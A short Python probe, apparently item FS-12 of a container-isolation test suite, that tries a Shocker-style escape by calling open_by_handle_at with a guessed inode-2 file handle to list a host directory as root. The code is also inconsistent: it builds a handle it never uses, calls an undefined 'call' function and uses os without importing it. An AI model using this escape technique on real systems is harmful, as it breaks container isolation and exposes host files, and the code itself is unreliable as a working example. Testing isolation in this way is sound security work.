# id: FS-12
# tries: open_by_handle_at with a guessed handle of inode 2, as Shocker did
# success: a descriptor of a host folder
# host: root
# end: answers


def attempt():
    import struct
    handle = struct.pack('IiIIII', 16, 1, 2, 0, 0, 0)
    for folder in ('/', '/opt', '/opt/python', '/usr/share/zoneinfo'):
        for kind in (1, 2, 0x81):
            try:
                opened = call('open_by_handle_at', os.open(folder, os.O_RDONLY), struct.pack('IiII', 8, kind, 2, 0), 0)
                return os.listdir(opened)
            except OSError:
                pass
